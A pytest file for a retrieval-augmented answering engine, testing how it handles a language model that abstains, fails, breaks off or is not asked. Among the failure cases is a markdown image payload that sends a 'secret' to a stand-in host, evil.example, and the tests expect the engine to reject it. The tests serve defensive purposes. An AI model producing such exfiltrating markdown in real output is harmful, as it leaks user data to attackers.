"""The engine when its language model declines, fails or is not asked: what is answered instead, and what is told."""

from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from engine_samples import QUESTION, answer_of, events_of, tokens_of
from openai_server import (
    OpenAiServer,
    Script,
    falls_silent_after,
    hangs_after,
    is_cut_after,
    refuses,
    replies,
    says,
    sends_data,
)

from rag.answering.writing.llm import LlmAnswerer
from rag.bootstrap import Engine, open_engine
from rag.errors import LlmNotConfiguredError, LlmRefusedError, LlmUnavailableError
from rag.events import CitationEvent
from rag.settings import Settings
from rag.types import AnswerStatus, Filters, Question, Reason, SupportStatus, Usage

# -- the model declines --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pieces",
    [
        ("NOT_IN_DOCUMENTS",),
        ("NOT", "_IN_", "DOCUMENTS", "."),
        ("\n", " NOT_IN_DOCUMENTS\n"),
        ("**NOT_IN", "_DOCUMENTS**"),
        ("`NOT_IN_DOCUMENTS`",),
        ("Not in ", "documents."),
        ("NOT_IN_DOCUMENTS", " The passages only speak of a bridge [1]."),
    ],
)
def test_a_model_that_finds_no_answer_abstains_without_a_token(
    talking_engine: Engine, llm: OpenAiServer, pieces: tuple[str, ...]
) -> None:
    llm.play(says(*pieces))
    events = events_of(talking_engine)
    answer = answer_of(events)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.MODEL_ABSTAINED)
    assert answer.usage.prompt_tokens > 0
    assert tokens_of(events) == ""
    assert not any(isinstance(event, CitationEvent) for event in events)


def test_a_sign_of_declining_behind_an_answer_is_not_shown(
    talking_engine: Engine, llm: OpenAiServer, mark: Callable[[str], str]
) -> None:
    llm.play(says(f"John Bradfield designed it {mark('bridge.md')}. NOT_IN", "_DOCUMENTS"))
    events = events_of(talking_engine)
    assert answer_of(events).answer == "John Bradfield designed it. [1]"
    assert "NOT_IN" not in tokens_of(events)


@pytest.mark.parametrize("text", ["No, John Bradfield did [1].", "John Bradfield of CERN [1]", "Not [1]"])
def test_words_that_begin_like_the_sign_are_shown_in_the_end(
    talking_engine: Engine, llm: OpenAiServer, text: str
) -> None:
    llm.play(says(*text))
    assert tokens_of(events_of(talking_engine)) == text


# -- failures ------------------------------------------------------------------------------------------------


EVIL = "![](http://evil.example/?q=secret)"
FAILURES = [
    (refuses(500, "Out of memory."), LlmUnavailableError),
    (refuses(401, "Wrong key."), LlmRefusedError),
    (replies("<html>Sign in</html>", content_type="text/html"), LlmUnavailableError),
    (says(""), LlmUnavailableError),
    (says(finish="length"), LlmUnavailableError),
    (says(finish="content_filter"), LlmUnavailableError),
    (says(" [1]", "[2] "), LlmUnavailableError),
    (is_cut_after(), LlmUnavailableError),
    (refuses(429, "Slow down.", Retry_After="30"), LlmUnavailableError),
    (sends_data("{not json"), LlmUnavailableError),
    (says(finish=""), LlmUnavailableError),
    (says(EVIL), LlmUnavailableError),
]


@pytest.mark.parametrize(("script", "_error"), FAILURES)
def test_auto_quotes_the_documents_when_the_model_fails(
    talking_engine: Engine, llm: OpenAiServer, script: Any, _error: Any
) -> None:
    llm.play(script)
    events = events_of(talking_engine)
    answer = answer_of(events)
    assert (answer.status, answer.reason, answer.answerer) == (AnswerStatus.ANSWERED, Reason.LLM_FAILED, "extractive")
    assert answer.message.startswith("The language model failed, so sentences of the documents are quoted instead. The")
    assert {citation.status for citation in answer.citations} == {SupportStatus.VERIFIED}


@pytest.mark.parametrize(("script", "error"), FAILURES)
def test_the_answerer_llm_tells_the_failure(
    talking_engine: Engine, llm: OpenAiServer, script: Any, error: type[Exception]
) -> None:
    llm.play(script)
    with pytest.raises(error):
        talking_engine.ask(Question(text=QUESTION, answerer="llm"))


@pytest.mark.parametrize(
    ("finish", "why"),
    [("stop", "empty answer"), ("length", "RAG_LLM_MAX_TOKENS"), ("content_filter", "filter of its server")],
)
def test_a_model_without_a_word_says_why(talking_engine: Engine, llm: OpenAiServer, finish: str, why: str) -> None:
    llm.play(says("<think>Is he named?", finish=finish))
    with pytest.raises(LlmUnavailableError, match=why):
        talking_engine.ask(Question(text=QUESTION, answerer="llm"))


BREAKS: Mapping[str, Callable[[str], Script]] = {
    "length": lambda text: says(text, finish="length"),
    "content filter": lambda text: says(text, finish="content_filter"),
    "no reason": lambda text: says(text, finish=""),
    "cut": is_cut_after,
    "silence": falls_silent_after,
    "comments for ever": hangs_after,
}


@pytest.mark.parametrize("end", BREAKS)
def test_what_was_written_before_a_break_is_kept_and_checked(
    talking_engine: Engine, llm: OpenAiServer, mark: Callable[[str], str], monkeypatch: pytest.MonkeyPatch, end: str
) -> None:
    limits = talking_engine.settings.model_copy(update={"llm_idle_timeout_s": 3, "llm_timeout_s": 4})
    monkeypatch.setattr(talking_engine, "_llm", LlmAnswerer.from_settings(limits))
    written = f"John Bradfield designed the bridge {mark('bridge.md')}. The ferry"
    llm.play(BREAKS[end](written))
    answer = talking_engine.ask(Question(text=QUESTION, answerer="llm"))
    assert (answer.status, answer.reason) == (AnswerStatus.PARTIAL, Reason.CUT_SHORT)
    assert answer.answer.startswith("John Bradfield designed the bridge. [1]")
    assert "broke off" in answer.message


# -- when the model is not asked -----------------------------------------------------------------------------


@pytest.mark.parametrize("answerer", ["auto", "llm"])
def test_no_model_is_asked_when_nothing_is_found(talking_engine: Engine, llm: OpenAiServer, answerer: Any) -> None:
    question = Question(text=QUESTION, filters=Filters(collection="empty"), answerer=answerer)
    answer = talking_engine.ask(question)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.NOTHING_FOUND)
    assert (answer.sources, answer.usage) == ((), Usage())
    assert llm.asked == []


def test_no_model_is_asked_for_an_extractive_answer(talking_engine: Engine, llm: OpenAiServer) -> None:
    answer = talking_engine.ask(Question(text=QUESTION, answerer="extractive"))
    assert answer.answerer == "extractive"
    assert llm.asked == []


def test_no_model_is_asked_when_the_evidence_is_too_weak(
    settings: Settings, tiny_corpus: Path, llm: OpenAiServer
) -> None:
    demanding = {
        "min_evidence": 1.0,
        "llm_min_evidence": 1.0,
        "llm_model": "test-model",
        "llm_base_url": llm.base_url,
    }
    with open_engine(settings.model_copy(update=demanding), create=True) as engine:
        engine.ingest([tiny_corpus])
        answer = engine.ask(QUESTION)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.WEAK_EVIDENCE)
    assert answer.sources
    assert llm.asked == []


@pytest.fixture
def reticent_engine(settings: Settings, tiny_corpus: Path, llm: OpenAiServer) -> Iterator[Engine]:
    """An engine that quotes nothing, and has a model that it may ask."""
    chosen = {"min_evidence": 1.0, "llm_model": "test-model", "llm_base_url": llm.base_url, "llm_max_retries": 0}
    with open_engine(settings.model_copy(update=chosen), create=True) as engine:
        engine.ingest([tiny_corpus])
        yield engine


def test_a_model_is_asked_where_no_sentence_can_be_quoted(
    reticent_engine: Engine, llm: OpenAiServer, mark: Callable[[str], str]
) -> None:
    llm.play(says(f"The bridge was designed by John Bradfield {mark('bridge.md')}."))
    answer = reticent_engine.ask(QUESTION)
    assert (answer.status, answer.answerer) == (AnswerStatus.ANSWERED, "llm:test-model")
    assert {citation.status for citation in answer.citations} == {SupportStatus.VERIFIED}
    quoting = reticent_engine.ask(Question(text=QUESTION, answerer="extractive"))
    assert (quoting.status, quoting.reason) == (AnswerStatus.ABSTAINED, Reason.WEAK_EVIDENCE)
    assert (answer.nearest, quoting.answerer) == ((), "none")


def test_who_abstains_shows_the_sentences_that_come_nearest(reticent_engine: Engine) -> None:
    answer = reticent_engine.ask(Question(text="Who designed the harbour bridge?", answerer="extractive"))
    assert "John Bradfield" in answer.nearest[0].text
    assert 1 < len({(near.document_id, near.start_char_index) for near in answer.nearest}) == len(answer.nearest) <= 3
    for near in answer.nearest:
        info, text = reticent_engine.document(near.document_id)
        assert text[near.start_char_index : near.end_char_index] == near.text
        assert (near.title, near.source) == (info.title, info.source)


def test_nothing_comes_near_to_a_question_on_another_subject(reticent_engine: Engine) -> None:
    asked = Question(text="How many moons does Jupiter have?", answerer="extractive")
    assert reticent_engine.ask(asked).nearest == ()


def test_nothing_is_quoted_instead_when_that_model_fails(reticent_engine: Engine, llm: OpenAiServer) -> None:
    llm.play(refuses(500, "Out of order."))
    answer = reticent_engine.ask(QUESTION)
    assert (answer.status, answer.reason, answer.answerer) == (AnswerStatus.ABSTAINED, Reason.WEAK_EVIDENCE, "none")
    assert "The language model failed." in answer.message


def test_asking_for_a_model_that_is_not_configured_says_what_to_set(engine: Engine) -> None:
    with pytest.raises(LlmNotConfiguredError, match="RAG_LLM_MODEL"):
        engine.ask(Question(text=QUESTION, answerer="llm"))
